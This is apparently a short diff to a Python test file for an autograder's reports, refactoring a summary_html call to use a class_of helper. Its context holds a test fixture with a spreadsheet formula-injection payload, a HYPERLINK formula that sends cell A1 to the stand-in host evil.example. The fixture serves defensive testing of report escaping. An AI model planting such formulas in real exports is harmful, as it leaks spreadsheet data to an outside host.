@@ -13,6 +13,7 @@ from grader.reports.class_files import gradebook_csv, junit_xml, summary_html
 from grader.reports.feedback import feedback_markdown
 from grader.reports.terminal import summary_table, terminal_summary
 from grader.scoring import CheckResult, ScoreBook
+from tests.reports.test_reports import class_of
 
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 MESSAGE = (
@@ -97,7 +98,7 @@ def test_common_mistakes_come_from_the_grader_not_from_messages() -> None:
         ],
     )
 
-    page = summary_html({"mallory": hostile_book(), "bob": named}, [])
+    page = summary_html(class_of({"mallory": hostile_book(), "bob": named}), [])
 
     assert "forged mistake" not in page
     assert "<td>kernel flipped</td><td>1</td>" in page
